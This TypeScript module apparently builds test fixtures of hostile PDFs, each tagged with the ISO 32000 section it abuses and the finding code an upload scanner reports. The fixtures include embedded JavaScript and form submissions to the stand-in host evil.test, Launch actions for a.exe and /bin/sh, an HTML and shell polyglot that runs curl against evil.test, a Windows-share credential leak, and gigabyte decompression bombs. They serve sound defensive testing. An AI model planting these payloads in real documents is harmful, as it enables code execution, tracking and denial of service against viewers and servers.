import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { fileOf, type OnePage, onePage, type PdfObject, stream } from './plain-pdf.ts';

/** A file that is meant to harm the server, or those who open it. */
export interface HostilePdf {
  readonly name: string;
  /** The section of ISO 32000-2 that it abuses, or another source. */
  readonly source: string;
  readonly bytes: Buffer;
  /** The codes that an examination finds. */
  readonly finds: ReadonlyArray<string>;
  /** Null when they cannot be counted. */
  readonly pages: number | null;
}

const hostile = (
  name: string,
  source: string,
  finds: HostilePdf['finds'],
  pages: number | null,
  bytes: Buffer,
): HostilePdf => ({ name, source, finds, pages, bytes });

const withPages = (pages: string, ...more: ReadonlyArray<PdfObject>) =>
  fileOf(['<< /Type /Catalog /Pages 2 0 R >>', pages, ...more]);
const pagesOf = (kid: string) => `<< /Type /Pages /Kids [${kid}] /Count 1 >>`;
const leaf = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>';

/** An action on a link that fills the page. */
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << ${action} >> >>]`;

const script = '/S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("http://evil.test/js"\\);)';

/** Files that make a viewer do something, each leading to a host that must not receive a request. */
export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf> {
  const file = `<< /Type /Filespec /FS /URL /F (${evil}/file) >>`;
  const of = (name: string, source: string, finds: string, shape: OnePage) =>
    hostile(name, source, [finds], 1, onePage(shape));
  const opens = (name: string, source: string, finds: string, action: string) =>
    of(name, source, finds, { catalog: `/OpenAction << ${action} >>` });
  const pageOpens = (name: string, source: string, finds: string, action: string) =>
    of(name, source, finds, { page: `/AA << /O << ${action} >> >>` });
  const beforeHeader = 'ISO 32000-1 Annex H.3, note 13';
  const polyglot = (name: string, source: string, before: string, after = '') => {
    const parts = [Buffer.from(before), onePage(), Buffer.from(after, 'latin1')];
    return hostile(name, source, ['pdf-polyglot'], 1, Buffer.concat(parts));
  };
  return [
    opens('a script when it opens', '§12.6.4.17', 'pdf-scripts', script),
    of('a script in the tree of names', '§7.7.4', 'pdf-scripts', {
      catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
    }),
    of('a script in a link', '§12.5.6.5', 'pdf-scripts', { page: link(script) }),
    pageOpens('a script when a page opens', '§12.6.3', 'pdf-scripts', script),
    opens(
      'a script whose name is encoded',
      '§7.3.5',
      'pdf-scripts',
      '/S /J#61vaScript /J#53 (app.alert\\(1\\))',
    ),
    of('a script in an object stream', '§7.5.7', 'pdf-scripts', {
      more: [
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          deflateSync('9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
        ),
      ],
    }),
    of('a script of a form field', '§12.7.6.3', 'pdf-scripts', {
      catalog: '/AcroForm << /Fields [4 0 R] >>',
      page: '/Annots [4 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [0 0 99 99] /AA << /C << ${script} >> >> >>`,
      ],
    }),
    opens('a program to start', '§12.6.4.6', 'pdf-launch', '/S /Launch /F (a.exe) /Win << /F (a.exe) >>'),
    of('a program to start by a link', '§12.6.4.6', 'pdf-launch', { page: link('/S /Launch /F (/bin/sh)') }),
    pageOpens(
      'a form that submits itself',
      '§12.7.6.2',
      'pdf-sends-data',
      `/S /SubmitForm /F ${file} /Flags 4`,
    ),
    opens('data that is imported', '§12.7.6.4', 'pdf-sends-data', `/S /ImportData /F ${file}`),
    opens('an address that opens automatically', '§12.6.4.8', 'pdf-auto-link', `/S /URI /URI (${evil}/open)`),
    pageOpens('an address when a page opens', '§12.6.3', 'pdf-auto-link', `/S /URI /URI (${evil}/page)`),
    opens(
      'a Windows share, which learns who opens the file',
      '§12.6.4.3',
      'pdf-other-files',
      '/S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.test\\\\share\\\\a.pdf)',
    ),
    of('page content in another file', '§7.3.8.2', 'pdf-other-files', {
      page: '/Contents 4 0 R',
      more: [stream(`/F ${file}`, Buffer.alloc(0))],
    }),
    of('a font in another file', '§9.9', 'pdf-other-files', {
      page: '/Contents 7 0 R /Resources << /Font << /F1 4 0 R >> >>',
      more: [
        '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 5 0 R >>',
        '<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontBBox [0 0 1 1] /FontFile2 6 0 R >>',
        stream(`/F ${file}`, Buffer.alloc(0)),
        stream('', Buffer.from('BT /F1 24 Tf 9 9 Td (A) Tj ET')),
      ],
    }),
    of('a file inside', '§7.11.4', 'pdf-attachments', {
      catalog: '/Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>',
      more: [
        '<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>',
        stream(
          '/Type /EmbeddedFile /Filter /FlateDecode',
          deflateSync(`<script src="${evil}/embedded"></script>`),
        ),
      ],
    }),
    of('a form of XFA, which is a program', 'ISO 32000-1 §12.7.8', 'pdf-xfa', {
      catalog: '/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true',
      more: [
        stream(
          '',
          Buffer.from(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field><ui><exData contentType="text/html"><img src="${evil}/xfa"/></exData></ui></field></subform></template></xdp:xdp>`,
          ),
        ),
      ],
    }),
    of('a page of HTML', 'mimesniff.spec.whatwg.org', 'pdf-polyglot', {
      afterHeader: `<!doctype html><script>document.title = 'ran'; fetch('${evil}/html')</script>\n`,
    }),
    polyglot(
      'a page of HTML before its header',
      beforeHeader,
      `<html><script src="${evil}/before"></script>\n`,
    ),
    polyglot('a script before its header', beforeHeader, `#!/bin/sh\ncurl ${evil}/before; exit\n`),
    polyglot('an archive', 'APPNOTE.TXT §4.3.16', '', `PK\u0005\u0006${'\0'.repeat(18)}`),
  ];
}

type Row = readonly [
  name: string,
  source: string,
  finds: string | undefined,
  pages: number | null,
  bytes: Buffer,
];
const inTable = (rows: ReadonlyArray<Row>): ReadonlyArray<HostilePdf> =>
  rows.map(([name, source, finds, pages, bytes]) =>
    hostile(name, source, finds ? [finds] : [], pages, bytes),
  );

/** Files that are broken, or that need a password: uploads of those without pages are refused. */
export function brokenPdfs(): ReadonlyArray<HostilePdf> {
  const frame = Buffer.from('%PDF-1.7\nnothing\n%%EOF\n');
  const whole = onePage({ more: ['(x)'.repeat(200)] });
  const cut = Buffer.concat([whole.subarray(0, 100), Buffer.from('\n%%EOF\n')]);
  const unknown = onePage({ trailer: '/Encrypt << /Filter /Lectern.Unknown /V 1 >>' });
  const typeless = '<< /Parent 2 0 R /MediaBox [0 0 300 300] >>';
  const million = '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>';
  return inTable([
    ['nothing but its frame', '§7.5.2', 'pdf-unreadable', null, frame],
    ['a truncated file', '§7.5.5', 'pdf-unreadable', null, cut],
    ['no pages', '§7.7.3', 'pdf-empty', 0, withPages('<< /Type /Pages /Kids [] /Count 0 >>')],
    ['a password to open it', '§7.6.4', 'pdf-password', null, encrypted({ user: 'secret', owner: 'owner' })],
    ['a password to change it', '§7.6.4', 'pdf-encrypted', 1, encrypted({ user: '', owner: 'owner' })],
    ['an unknown security handler', '§7.6.2', 'pdf-unreadable', null, unknown],
    [
      'a page without the type of one',
      '§7.7.3.3',
      'pdf-not-examined',
      1,
      withPages(pagesOf('3 0 R'), typeless),
    ],
    ['a declared count of a million pages', '§7.7.3.2', undefined, 1, withPages(million, leaf)],
  ]);
}

/** Small files that take too much to open. */
export function costlyPdfs(inflatedBytes = 2 ** 30): ReadonlyArray<HostilePdf> {
  const bomb = deflateSync(zeros(inflatedBytes), { level: 9 });
  const twice = '/Filter [/FlateDecode /FlateDecode]';
  const ofStream = onePage({ more: [stream(`/Type /ObjStm /N 1 /First 4 ${twice}`, bomb)] });
  const ofPage = onePage({ page: '/Contents 4 0 R', more: [stream(twice, bomb)] });
  const many = `<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>`;
  const [root = '', ...levels] = Array.from(
    { length: 10 },
    (_, at) => `<< /Type /Pages /Kids [${`${at + 3} 0 R `.repeat(10)}] /Count 10 >>`,
  );
  const nested = onePage({ more: ['['.repeat(200_000) + ']'.repeat(200_000)] });
  const size = '/Type /XRef /Size 2147483647 /Index [0 2147483647] /W [1 4 2] /Root 1 0 R';
  const table = onePage({ more: [stream(size, Buffer.alloc(70))] });
  return inTable([
    [
      'a gigabyte of zeros, deflated twice, for an object stream',
      '§7.5.7',
      'pdf-not-examined',
      null,
      ofStream,
    ],
    ['a gigabyte of zeros, deflated twice, for a page', '§7.4.4', undefined, 1, ofPage],
    ['ten thousand pages', '§7.7.3.2', undefined, 10_000, withPages(many, leaf)],
    [
      'a tree of ten thousand million pages',
      ...(['§7.7.3.2', 'pdf-not-examined', null, withPages(root, ...levels, leaf)] as const),
    ],
    [
      'a tree of pages that is its own branch',
      ...(['§7.7.3.2', 'pdf-unreadable', null, withPages(pagesOf('2 0 R'))] as const),
    ],
    ['arrays in arrays in arrays', '§7.3.6', 'pdf-not-examined', 1, nested],
    ['a table of two thousand million objects', '§7.5.8', 'pdf-not-examined', null, table],
  ]);
}

/** The stream that deflates this many zeros (RFC 1950, 1951), assembled from one block of them. */
function zeros(count: number): Buffer {
  const blockBytes = 2 ** 20;
  const block = deflateRawSync(Buffer.alloc(blockBytes), { finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Array.from({ length: count / blockBytes }, () => block);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, deflateRawSync(''), Buffer.alloc(4)]);
}

/**
 * Encrypted by the first of the standard handlers, which is the shortest: RC4 of 40 bits, revision 2 (§7.6.4.3,
 * §7.6.4.4).
 */
export function encrypted({ user, owner }: { user: string; owner: string }): Buffer {
  const padding = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
  const padded = (password: string) => Buffer.concat([Buffer.from(password), padding]).subarray(0, 32);
  const key = (...parts: ReadonlyArray<Buffer>) =>
    createHash('md5').update(Buffer.concat(parts)).digest().subarray(0, 5);
  const id = Buffer.alloc(16, 7);
  const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff]);
  const o = rc4(key(padded(owner)), padded(user));
  const u = rc4(key(padded(user), o, permissions, id), padding);
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
  return onePage({
    trailer: `/ID [${hex(id)} ${hex(id)}] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${hex(o)} /U ${hex(u)} >>`,
  });
}

/** OpenSSL no longer has it. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Array.from({ length: 256 }, (_, at) => at);
  const swap = (a: number, b: number) => {
    [state[a], state[b]] = [state[b] as number, state[a] as number];
  };
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + (state[i] as number) + (key[i % key.length] as number)) & 255;
    swap(i, j);
  }
  let [i, j] = [0, 0];
  return data.map((byte) => {
    i = (i + 1) & 255;
    j = (j + (state[i] as number)) & 255;
    swap(i, j);
    return byte ^ (state[((state[i] as number) + (state[j] as number)) & 255] as number);
  }) as Buffer;
}
